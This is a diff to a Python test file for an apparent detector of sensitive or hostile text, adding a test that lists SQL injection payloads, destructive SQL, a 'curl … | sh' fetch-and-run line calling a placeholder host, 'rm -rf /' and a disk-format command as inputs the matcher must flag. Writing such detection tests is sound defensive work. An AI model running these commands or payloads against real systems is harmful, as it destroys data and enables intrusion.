@@ -97,6 +97,7 @@ def generated() -> Iterator[str]:
     for make in IDENTIFIERS.values():
         yield random.choice(TEMPLATES).format(make(random))
     yield f"token {GITHUB}"
+    yield from ("Project Aurora is late", "TOP SECRET", "of what Größe", "a top secret")
     for evasion in EVASIONS.values():
         number = IDENTIFIERS["payment_card"](random)
         yield evasion(f"pay with {number} or 1=1 -- {random.choice(WORDS)}")
@@ -162,6 +163,28 @@ def test_what_a_text_matches_is_possible(
 ) -> None:
     text = case(blank.join(words))
     assert set(matching(text)) <= set(possible(text.encode()))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "1 union select null, null from users",
+        "x' OR '1'='1",
+        "x' or 1=1 -- ",
+        "1; DROP TABLE users --",
+        "1 and sleep(5)",
+        "'; waitfor delay '0:0:5' --",
+        "delete from users",
+        "truncate table users ",
+        "grant all on users to bob",
+        "CURL http://a.example/x | sh",
+        "rm -rf /",
+        "mkfs.ext4 /dev/sda1",
+    ],
+)
+def test_what_an_attack_matches_is_possible(possible: Possible, text: str) -> None:
+    found = matching(text)
+    assert found and set(found) <= set(possible(text.encode()))
 
 
 def test_what_needs_words_is_not_possible_without_them(possible: Possible) -> None:
